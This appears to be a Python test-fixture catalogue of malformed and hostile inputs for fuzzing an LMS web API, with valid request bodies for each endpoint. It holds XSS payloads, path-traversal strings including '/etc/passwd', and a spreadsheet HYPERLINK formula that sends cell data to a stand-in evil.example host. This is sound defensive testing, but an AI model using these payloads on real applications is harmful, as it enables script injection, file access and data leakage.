"""The bad-input catalogue: payloads that have broken web applications before, and the valid
request each API write starts from before one part of it is spoiled.

Every entry is sent somewhere by the tests beside this file; each must be answered with a 4xx in
the one error shape, or be stored safely and rendered escaped, and a refused request writes nothing.
"""
from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

from assessments.roleplays.consent import CURRENT_VERSION as CONSENT_VERSION
from assessments.roleplays.default_content import DEFAULT_INSTRUMENT
from tests.reliability.permission_table import EXPECTED
from tests.reliability.world import ROLES, World

# --- Whole bodies ------------------------------------------------------------------------------

# Bodies that are not JSON at all, sent as application/json.
MALFORMED_JSON: dict[str, bytes] = {
    "truncated": b'{"title": "Half a',
    "single_quotes": b"{'title': 'x'}",
    "trailing_comma": b'{"title": "x",}',
    "nan_literal": b'{"title": NaN}',
    "infinity_literal": b'{"seconds": Infinity}',
    "invalid_utf8": b'{"title": "\xff\xfe\xfa"}',
    "utf16_with_bom": '{"title": "x"}'.encode("utf-16"),
    "comment": b'{/* a comment */ "title": "x"}',
    "bare_word": b"hello",
    "whitespace_only": b"   \n\t ",
    "nul_byte_between_tokens": b'{"title":\x00"x"}',
}

# JSON that parses but is not the object every write expects.
WRONG_JSON_SHAPES: dict[str, bytes] = {
    "array": b"[]",
    "array_of_object": b'[{"title": "x"}]',
    "string": b'"text"',
    "number": b"42",
    "null": b"null",
    "true": b"true",
}

# (name, content type, body): a JSON body under the wrong label, and labels a parser may choke on.
WRONG_CONTENT_TYPES: list[tuple[str, str | None, bytes]] = [
    ("text_plain", "text/plain", b'{"title": "x"}'),
    ("xml", "application/xml", b"<title>x</title>"),
    ("form_urlencoded", "application/x-www-form-urlencoded", b"title=x&reason=y"),
    ("multipart_without_boundary", "multipart/form-data", b'{"title": "x"}'),
    ("multipart_broken", "multipart/form-data; boundary=zzz", b"--zzz\r\nContent-Disposition: form-data\r\n\r\nx"),
    ("unknown_charset", "application/json; charset=klingon", b'{"title": "x"}'),
    ("no_content_type", None, b'{"title": "x"}'),
    ("json_subtype_typo", "application/jsonx", b'{"title": "x"}'),
]

DEEP_NESTING = 100_000  # far past Python's recursion limit


def deeply_nested(depth: int = DEEP_NESTING) -> bytes:
    return b'{"title": "x", "deep": ' + b"[" * depth + b"]" * depth + b"}"


def deeply_nested_objects(depth: int = DEEP_NESTING // 10) -> bytes:
    return b'{"title": "x", "deep": ' + b'{"a": ' * depth + b"1" + b"}" * depth + b"}"


# --- Single values -----------------------------------------------------------------------------

# A stand-in for a number literal json.dumps cannot write; replaced in the dumped text.
RAW_HUGE_FLOAT = "__raw_1e400__"
LONG = 300_000  # characters: longer than any text field, and still under the 1 MiB body limit

# Values no database should be given as text: refused wherever they are sent.
UNSTORABLE = {"nul", "nul_only", "lone_surrogate", "nul_key", "nul_value", "surrogate_key", "nul_item"}
# Writes that store nothing of what they are sent (they check it and answer).
STORES_NOTHING = {"POST /api/v1/credentials/verify/", "POST /api/v1/auth/token/"}


def must_refuse(key: str, leaf: Leaf, name: str) -> bool:
    if name in UNSTORABLE:
        return True
    return name == "too_long" and leaf.kind == "string" and key not in STORES_NOTHING

STRING_VALUES: dict[str, Any] = {
    "nul": "before\x00after",
    "nul_only": "\x00",
    "lone_surrogate": "broken \ud800 pair",
    "too_long": None,  # maxLength + 1, or LONG when the schema gives no limit (see string_too_long)
    "control_characters": "bell\x07 escape\x1b[31m red",
    "bidi_override": "invoice\u202eexe.pdf",
    "whitespace_only": " \t\n ",
    "number_instead": 12345,
    "object_instead": {"text": "x"},
    "list_instead": ["x"],
    "null": None,
}

INTEGER_VALUES: dict[str, Any] = {
    "negative": -1,
    "below_int64": -(2**63) - 1,
    "above_int64": 2**63,
    "googol": 10**100,
    "fraction": 1.5,
    "overflowing_float": RAW_HUGE_FLOAT,
    "numeric_text": "12abc",
    "boolean": True,
    "null": None,
    "object_instead": {"n": 1},
}

DATETIME_VALUES: dict[str, Any] = {
    "february_30": "2026-02-30T10:00:00Z",
    "month_13": "2026-13-01T10:00:00Z",
    "hour_25": "2026-01-01T25:00:00Z",
    "offset_25_hours": "2026-01-01T10:00:00+25:00",
    "past_year_9999_in_utc": "9999-12-31T23:00:00-14:00",
    "before_year_1_in_utc": "0001-01-01T01:00:00+14:00",
    "words": "next tuesday",
    "epoch_number": 1_767_225_600,
    "nul": "2026-01-01T10:00:00Z\x00",
    "null": None,
}

TIMEZONE_VALUES: dict[str, Any] = {
    "unknown_zone": "Mars/Olympus_Mons",
    "path_traversal": "../../../../etc/passwd",
    "absolute_path": "/etc/localtime",
    "nul": "UTC\x00",
    "posix_rule": "EST5EDT,M3.2.0,M11.1.0",
    "bare_offset": "+05:30",
    "too_long": "Europe/" + "x" * 300,
}

TIME_OF_DAY_VALUES: dict[str, Any] = {
    "hour_25": "25:00",
    "minute_61": "10:61",
    "words": "noon",
    "nul": "10:00\x00",
    "number_instead": 2200,
}

EMAIL_VALUES: dict[str, Any] = {
    "no_at": "not-an-email",
    "nul": "person\x00@example.com",
    "overlong": "a" * 300 + "@example.com",
    "script": "<script>alert(1)</script>@example.com",
}

BOOLEAN_VALUES: dict[str, Any] = {"text": "maybe", "two": 2, "object_instead": {}}

# --- Accepted but odd: stored and returned exactly as sent -------------------------------------

UNICODE_ODDITIES: dict[str, str] = {
    "right_to_left": "\u05e9\u05e8\u05d4 \u05dc\u05d5\u05d9 \u0645\u0631\u064a\u0645",  # Hebrew and Arabic
    "combining_marks": "Zoe\u0308 Ren\u0303e\u0301",  # decomposed accents: not normalised away
    "emoji_sequences": "Sam \U0001f469\U0001f3fd\u200d\U0001f4bb \U0001f1f5\U0001f1f9",
    "astral_cjk": "\U00020bb7\u91ce\u5bb6",
    "zero_width": "Ana\u200bBel",
}

# --- Rendered text: markup that must come out inert --------------------------------------------

SCRIPT = "<script>alert(1)</script>"
IMG_ONERROR = '"><img src=x onerror=alert(1)>'
HTML_PAYLOADS: dict[str, str] = {"script": SCRIPT, "img_onerror": IMG_ONERROR}
JAVASCRIPT_URLS = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)",
                   "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>"]
# What must never appear in a rendering (the payloads' dangerous parts, unescaped).
HTML_DANGER = ["<script>alert(1)", "<img src=x onerror", "onerror=alert(1)>"]

# --- Reported text: formulas a spreadsheet must not run -----------------------------------------

FORMULA_PAYLOADS: dict[str, str] = {
    "equals": '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "carriage_return": "\r=1+1",
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# --- File names ----------------------------------------------------------------------------------

FILE_NAMES: dict[str, str] = {
    "parent_traversal": "../../../../escape.{ext}",
    "windows_traversal": "..\\..\\..\\escape.{ext}",
    "absolute": "/tmp/badinput-escape.{ext}",
    "nul": "good.{ext}\x00.sh",
    "very_long": "n" * 1000 + ".{ext}",
    "reserved_windows": "CON.{ext}",
    "dot_only": "..",
    "hidden": ".htaccess",
    "html": "<script>alert(1)</script>.{ext}",
    "unicode_rtl": "\u202etxt.{ext}",
}


# --- The valid request each write starts from ---------------------------------------------------

def _instrument(world: World) -> dict:
    document = json.loads(json.dumps(DEFAULT_INSTRUMENT))
    document["slug"] = "bad-input-probe"
    return {"organization": world.org.slug, "document": document}


def scores(world: World) -> list[dict]:
    return [{"criterion": criterion.pk, "points": 2}
            for criterion in world.extra["scenario"].rubric.criteria.order_by("position", "id")]


def _survey_answers(world: World) -> dict:
    instrument = world.extra["survey"].instrument
    return {"answers": {item.key: instrument.scale_min for item in instrument.items.all()}}


def _session(world: World, *, create: bool) -> dict:
    start = world.extra["session"].parts.order_by("starts_at").first().starts_at
    body = {"title": "Practice round", "timezone": "Europe/Lisbon", "venue": "Room 2",
            "online_url": "https://meet.example.com/practice", "capacity": 12, "waitlist_enabled": True,
            "registration_opens_at": "2025-01-01T09:00:00Z", "registration_closes_at": start.isoformat(),
            "cancellation_cutoff_hours": 24,
            "parts": [{"starts_at": start.isoformat(), "ends_at": start.replace(hour=12).isoformat(),
                       "required": True}]}
    if create:
        body["workshop"] = world.extra["workshop"].pk
    return body


def _quiz_document(world: World) -> dict:
    return {"format": "empathy-lms/quiz", "version": 1, "title": "Listening check", "instructions": "Pick one.",
            "passing_score": 70, "max_attempts": 3, "time_limit_seconds": 600, "shuffle_questions": False,
            "shuffle_choices": False, "reveal_answers": "never",
            "questions": [{"kind": "single_choice", "prompt": "What comes first?", "points": 1, "feedback": "",
                           "choices": [{"text": "Listening", "correct": True, "feedback": "Yes."},
                                       {"text": "Solving", "correct": False, "feedback": ""}]}]}


def _attendance(world: World) -> dict:
    part = world.extra["session"].parts.order_by("starts_at").first()
    return {"marks": [{"registration": world.extra["registration"].pk, "part": part.pk, "status": "attended"}]}


def _quiz_answers(world: World) -> dict:
    from assessments.quizzes.models import Question

    question = Question.objects.filter(quiz__activity=world.quiz_activity).order_by("pk").first()
    return {"answers": [{"question": question.pk, "choices": [question.choices.order_by("pk").first().pk],
                         "text": ""}]}


def _peer_reviewer(world: World) -> dict:
    assignment = world.extra["assignment"]
    from lms.models import User

    other = User.objects.filter(memberships__organization=world.org).exclude(
        pk__in=[assignment.reviewer_id, assignment.performance.enrollment.user_id]).order_by("pk").first()
    return {"reviewer": other.pk}


def _leadership_answers(world: World) -> dict:
    from assessments.leadership.behaviours import BEHAVIOUR_KEYS

    return {"answers": {key: 3 for key in BEHAVIOUR_KEYS}}


VALID_BODIES: dict[str, Callable[[World], Any]] = {
    "PATCH /api/v1/activities/{activity_id}/lesson/": lambda w: {
        "body": "# Listening\n\nHear the customer out.", "video_url": "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
        "video_duration_seconds": 120, "transcript": "Listen first."},
    "PUT /api/v1/activities/{activity_id}/quiz/import/": _quiz_document,
    "POST /api/v1/activities/{activity_id}/survey/responses/": _survey_answers,
    "POST /api/v1/auth/token/": lambda w: {"email": w.users["learner"].email, "password": "wrong", "name": "cli"},
    "POST /api/v1/certificates/{code}/reissue/": lambda w: {"reason": "Name corrected."},
    "POST /api/v1/privacy/me/erasure/confirm/": lambda w: {"password": "not the password"},
    "PUT /api/v1/privacy/organizations/{slug}/legal-hold/": lambda w: {"reason": "Litigation pending."},
    "POST /api/v1/certificates/{code}/revoke/": lambda w: {"reason": "Issued by mistake."},
    "POST /api/v1/courses/": lambda w: {
        "slug": "bad-input-course", "title": "Hearing people out", "summary": "Short.", "description": "# Long",
        "language": "en", "category": "listening", "tags": ["listening"], "organization": w.org.slug,
        "hours_credited": "1.5", "passing_score": 70, "validity_months": 12, "due_days": 30},
    "PATCH /api/v1/courses/{slug}/": lambda w: {
        "title": "Listening first, again", "summary": "Short.", "description": "Long.", "language": "en",
        "category": "listening", "tags": ["listening"], "hours_credited": "2.0", "passing_score": 60,
        "validity_months": 24, "due_days": 14},
    "POST /api/v1/courses/{slug}/announcements/": lambda w: {"subject": "Room change", "body": "Room 4 from now on."},
    "POST /api/v1/courses/{slug}/enroll/": lambda w: {"organization": w.org.slug},
    "POST /api/v1/courses/{slug}/gradebook/{enrollment_id}/extensions/": lambda w: {
        "kind": "extra_time", "activity": w.quiz_activity.pk, "amount": 5, "reason": "Slow connection.",
        "due_at": "2099-01-01T00:00:00Z"},
    "POST /api/v1/courses/{slug}/gradebook/{enrollment_id}/overrides/": lambda w: {
        "activity": w.lesson.pk, "score": "85.00", "passed": True, "reason": "Done on paper."},
    "POST /api/v1/courses/{slug}/enrollments/bulk/": lambda w: {
        "emails": ["new.person@example.com"], "organization": w.org.slug},
    "POST /api/v1/courses/{slug}/modules/": lambda w: {"title": "A second module", "position": 2},
    "POST /api/v1/courses/{slug}/modules/{module_id}/activities/": lambda w: {
        "title": "Another lesson", "kind": "lesson", "required": True, "weight": 1, "position": 9,
        "estimated_minutes": 5, "lesson": {"content_type": "article", "body": "Read this."}},
    "PUT /api/v1/courses/{slug}/rating/": lambda w: {"stars": 4, "review": "Useful."},
    "PATCH /api/v1/courses/{slug}/modules/{module_id}/": lambda w: {"title": "The first module"},
    "POST /api/v1/courses/{slug}/modules/order/": lambda w: {"order": [w.course.modules.get().pk]},
    "POST /api/v1/courses/{slug}/modules/{module_id}/activities/order/": lambda w: {
        "order": list(w.course.modules.get().activities.order_by("-position", "-id").values_list("pk", flat=True))},
    "PATCH /api/v1/courses/{slug}/activities/{activity_id}/": lambda w: {"title": "Why listening matters",
                                                                          "required": True, "weight": 2},
    "POST /api/v1/credentials/verify/": lambda w: {"@context": ["https://www.w3.org/ns/credentials/v2"],
                                                   "type": ["VerifiableCredential"], "issuer": "did:key:z6Mk",
                                                   "validFrom": "2025-01-01T00:00:00Z"},
    "POST /api/v1/enrollments/{enrollment_id}/activities/{activity_id}/complete/": lambda w: {
        "time_spent_seconds": 60},
    "POST /api/v1/enrollments/{enrollment_id}/activities/{activity_id}/heartbeat/": lambda w: {"seconds": 30},
    "POST /api/v1/enrollments/{enrollment_id}/activities/{activity_id}/watch/": lambda w: {"ranges": [[0, 12.5]]},
    "POST /api/v1/instruments/import/": _instrument,
    "PATCH /api/v1/me/": lambda w: {"first_name": "Ana", "last_name": "Lima", "timezone": "Europe/Lisbon",
                                    "language": "en"},
    "PATCH /api/v1/me/notification-preferences/": lambda w: {
        "email_enabled": True, "kinds": {"inactivity": True}, "quiet_start": "22:00", "quiet_end": "07:00",
        "quiet_days": [6, 7], "resume": False},
    "POST /api/v1/organizations/{slug}/departments/": lambda w: {"name": "Returns desk", "code": "RET"},
    "PATCH /api/v1/organizations/{slug}/departments/{department_id}/": lambda w: {"name": "Care", "code": "CC"},
    "POST /api/v1/organizations/{slug}/memberships/": lambda w: {
        "email": "joiner@example.com", "first_name": "Jo", "last_name": "Iner", "roles": ["learner"],
        "department": w.department.pk, "manager": w.users["supervisor"].memberships.get().pk, "employee_id": "E-1"},
    "PATCH /api/v1/organizations/{slug}/memberships/{membership_id}/": lambda w: {
        "roles": ["learner"], "department": w.department.pk, "employee_id": "E-2", "is_active": True},
    "POST /api/v1/organizations/{slug}/reminder-policies/": lambda w: {
        "kind": "due_soon", "course": w.course.slug, "enabled": True, "days": 3},
    "PATCH /api/v1/organizations/{slug}/reminder-policies/{policy_id}/": lambda w: {"enabled": False, "days": 7},
    "PATCH /api/v1/organizations/{slug}/reminder-settings/": lambda w: {
        "from_email": "Care Team <care@example.com>", "reply_to": "help@example.com", "quiet_start": "21:00",
        "quiet_end": "08:00", "quiet_days": [7], "daily_cap": 3},
    "POST /api/v1/outcomes/scores/": lambda w: {"organization": w.org.slug, "dry_run": False, "rows": [{
        "external_id": "zd-1", "email": w.users["learner"].email, "metric": "csat", "period_start": "2026-01-01",
        "period_end": "2026-01-31", "score": "4.5", "scale_min": "1", "scale_max": "5", "responses": "12",
        "source": "helpdesk"}]},
    "POST /api/v1/quiz-attempts/{attempt_id}/submit/": _quiz_answers,
    "POST /api/v1/reports/exports/": lambda w: {
        "organization": w.org.slug, "course": w.course.slug, "department": w.department.pk,
        "manager": w.users["supervisor"].email, "status": "active", "overdue": "false",
        "enrolled_after": "2020-01-01T00:00:00Z", "enrolled_before": "2100-01-01T00:00:00Z",
        "completed_after": "2020-01-01T00:00:00Z", "completed_before": "2100-01-01T00:00:00Z",
        "updated_after": "2020-01-01T00:00:00Z", "updated_before": "2100-01-01T00:00:00Z", "format": "csv"},
    "POST /api/v1/courses/{slug}/ratings/{rating_id}/flag/": lambda w: {"reason": "off_topic", "note": "Not about it."},
    "POST /api/v1/courses/{slug}/ratings/{rating_id}/hide/": lambda w: {"reason": "Advertising."},
    "PUT /api/v1/organizations/{slug}/xapi/endpoint/": lambda w: {
        "url": "https://lrs.example.com/xapi", "username": "lms", "password": "p" * 24, "version": "1.0.3",
        "actor_mode": "account"},
    "POST /api/v1/reports/webhooks/": lambda w: {
        "organization": w.org.slug, "url": "https://hooks.example.com/other", "event_types": ["certificate.issued"],
        "secret": "s" * 32, "description": "HRIS"},
    "PATCH /api/v1/reports/webhooks/{endpoint_id}/": lambda w: {
        "url": "https://hooks.example.com/moved", "event_types": ["certificate.issued"], "secret": "t" * 32,
        "description": "HRIS", "is_active": True},
    "POST /api/v1/roleplays/assignments/{assignment_id}/reassign/": _peer_reviewer,
    "POST /api/v1/roleplays/calibration-examples/{example_id}/reviews/": lambda w: {"scores": scores(w)},
    "POST /api/v1/roleplays/performances/{performance_id}/reviews/": lambda w: {
        "scores": scores(w), "comments": "Warm opening.", "opportunity_codes": {"party": "explored"},
        "role": "supervisor"},
    "PUT /api/v1/roleplays/reviews/{review_id}/": lambda w: {
        "scores": scores(w), "comments": "Better now.", "opportunity_codes": {"party": "acknowledged"}},
    "POST /api/v1/roleplays/scenarios/{scenario_id}/allocate/": lambda w: {
        "cohort": "spring", "due_at": "2099-01-01T00:00:00Z"},
    "POST /api/v1/roleplays/scenarios/{scenario_id}/calibration-examples/": lambda w: {
        "title": "A rushed answer", "transcript": "Agent: Next.", "link": "https://example.com/clip",
        "scores": scores(w)},
    "POST /api/v1/roleplays/scenarios/{scenario_id}/performances/": lambda w: {
        "transcript": "Agent: Tell me about the party.", "link": "", "session_reference": "", "cohort": "spring",
        "recording_consent": CONSENT_VERSION},
    "POST /api/v1/workshops/": lambda w: {
        "course": w.course.slug, "title": "Extra practice", "module": w.course.modules.get().pk, "required": False,
        "description": "One more round.", "requires_approval": False, "instructors": [w.users["instructor"].pk]},
    "PATCH /api/v1/workshops/{workshop_id}/": lambda w: {
        "description": "Bring headphones.", "requires_approval": True, "instructors": [w.users["instructor"].pk]},
    "POST /api/v1/workshops/registrations/{registration_id}/approve/": lambda w: {"reason": "Seat found."},
    "POST /api/v1/workshops/registrations/{registration_id}/decline/": lambda w: {"reason": "Full."},
    "POST /api/v1/workshops/sessions/": lambda w: _session(w, create=True),
    "PATCH /api/v1/workshops/sessions/{session_id}/": lambda w: _session(w, create=False),
    "POST /api/v1/workshops/sessions/{session_id}/attendance/": _attendance,
    "POST /api/v1/workshops/sessions/{session_id}/cancel/": lambda w: {"reason": "Trainer ill."},
    "POST /api/v1/leadership/cycles/": lambda w: {
        "organization": w.org.slug, "name": "Autumn 360", "opens_on": "2030-01-01", "closes_on": "2030-01-31",
        "minimum_raters": 3, "managers": [w.users["supervisor"].memberships.get().pk], "peers": True,
        "own_manager": True, "self_rating": True},
    "POST /api/v1/leadership/invitations/{invitation_id}/answer/": _leadership_answers,
}

# Who sends each write: by default the first role the permission table lets in (2xx first, then a
# 4xx that is not 401/403/404), in this order; a few writes are someone else's.
ROLE_PREFERENCE = ("instructor", "org_admin", "hr", "learner", "supervisor", "anon", "outsider", "api_key")
WRITER_OVERRIDES = {
    "POST /api/v1/courses/": "instructor",
    "POST /api/v1/courses/{slug}/enrollments/bulk/": "instructor",
    "POST /api/v1/activities/{activity_id}/survey/responses/": "learner",
    "POST /api/v1/roleplays/scenarios/{scenario_id}/performances/": "learner",
    "POST /api/v1/quiz-attempts/{attempt_id}/submit/": "learner",
    "PUT /api/v1/roleplays/reviews/{review_id}/": "learner",
    "POST /api/v1/workshops/sessions/": "instructor",
    "POST /api/v1/workshops/": "instructor",
    "POST /api/v1/instruments/import/": "instructor",
    "PUT /api/v1/courses/{slug}/rating/": "learner",
    "POST /api/v1/roleplays/performances/{performance_id}/reviews/": "instructor",
    "POST /api/v1/reports/exports/": "hr",
    "POST /api/v1/reports/webhooks/": "hr",
    "POST /api/v1/leadership/cycles/": "hr",
    "POST /api/v1/leadership/invitations/{invitation_id}/answer/": "learner",
}
LET_IN = {"200", "201", "202", "204", "400", "409", "413", "415", "422"}


def writer_role(key: str) -> str:
    if key in WRITER_OVERRIDES:
        return WRITER_OVERRIDES[key]
    statuses = dict(zip(ROLES, EXPECTED[key].split(), strict=True))
    for accepted in (lambda s: s.startswith("2"), lambda s: s in LET_IN):
        for role in ROLE_PREFERENCE:
            if accepted(statuses[role]):
                return role
    raise AssertionError(f"No role may write {key}; check the permission table.")


# --- Spoiling one value at a time -----------------------------------------------------------------

@dataclass(frozen=True)
class Leaf:
    path: tuple[Any, ...]  # keys and list indices from the body's root
    kind: str  # string, integer, number, boolean, datetime, timezone, time, email, object, list
    max_length: int | None = None


def _kind(name: str, value: Any, schema: dict | None) -> str:
    schema = schema or {}
    if schema.get("format") == "date-time" or name.endswith(("_at", "_after", "_before")) or name == "validFrom":
        return "datetime"
    if name == "timezone":
        return "timezone"
    if name in {"quiet_start", "quiet_end"}:
        return "time"
    if schema.get("format") == "email" or name in {"email", "manager", "reply_to", "from_email"}:
        return "email"
    if isinstance(value, bool) or schema.get("type") == "boolean":
        return "boolean"
    if isinstance(value, int) or schema.get("type") == "integer":
        return "integer"
    if isinstance(value, dict):
        return "object"
    if isinstance(value, list):
        return "list"
    return "string"


def leaves(body: Any, schema_properties: dict[str, dict]) -> Iterator[Leaf]:
    """Every value of ``body`` worth spoiling: the first item of each list stands for the rest;
    optional top-level fields the schema lists but the body lacks are added."""

    def walk(value: Any, path: tuple, schema: dict | None) -> Iterator[Leaf]:
        name = str(path[-1]) if path else ""
        if isinstance(value, dict):
            if path:
                yield Leaf(path, "object")
            for key, child in value.items():
                child_schema = (schema or {}).get("properties", {}).get(key) if path else schema_properties.get(key)
                yield from walk(child, (*path, key), child_schema)
        elif isinstance(value, list):
            yield Leaf(path, "list")
            if value:
                yield from walk(value[0], (*path, 0), (schema or {}).get("items"))
        else:
            yield Leaf(path, _kind(name, value, schema), (schema or {}).get("maxLength"))

    if isinstance(body, dict):
        yield from walk(body, (), None)
        for key, schema in schema_properties.items():
            if key not in body and schema.get("readOnly") is not True:
                yield Leaf((key,), _kind(key, None, schema), schema.get("maxLength"))


def values_for(leaf: Leaf) -> dict[str, Any]:
    if leaf.kind == "string":
        values = dict(STRING_VALUES)
        values["too_long"] = "x" * ((leaf.max_length or LONG - 1) + 1)
        return values
    if leaf.kind == "integer":
        return INTEGER_VALUES
    if leaf.kind == "datetime":
        return DATETIME_VALUES
    if leaf.kind == "timezone":
        return TIMEZONE_VALUES
    if leaf.kind == "time":
        return TIME_OF_DAY_VALUES
    if leaf.kind == "email":
        return EMAIL_VALUES
    if leaf.kind == "boolean":
        return BOOLEAN_VALUES
    if leaf.kind == "object":
        return {"nul_key": {"a\x00b": 1}, "nul_value": {"key": "a\x00b"}, "surrogate_key": {"\udfff": 1},
                "overflowing_float": {"key": RAW_HUGE_FLOAT}, "list_instead": [1]}
    if leaf.kind == "list":
        return {"object_instead": {"0": "x"}, "nul_item": ["\x00"], "nested_lists": [[[["x"]]]]}
    raise AssertionError(leaf.kind)


def spoil(body: Any, leaf: Leaf, value: Any) -> Any:
    """A deep copy of ``body`` with the value at ``leaf.path`` replaced (or added)."""
    copy = json.loads(json.dumps(body))
    target = copy
    for step in leaf.path[:-1]:
        target = target[step]
    target[leaf.path[-1]] = value
    return copy


def dump(body: Any) -> bytes:
    """JSON bytes, with lone surrogates escaped as JSON allows and the raw huge float put in."""
    text = json.dumps(body, ensure_ascii=True)
    return text.replace(json.dumps(RAW_HUGE_FLOAT), "1e400").encode("ascii")
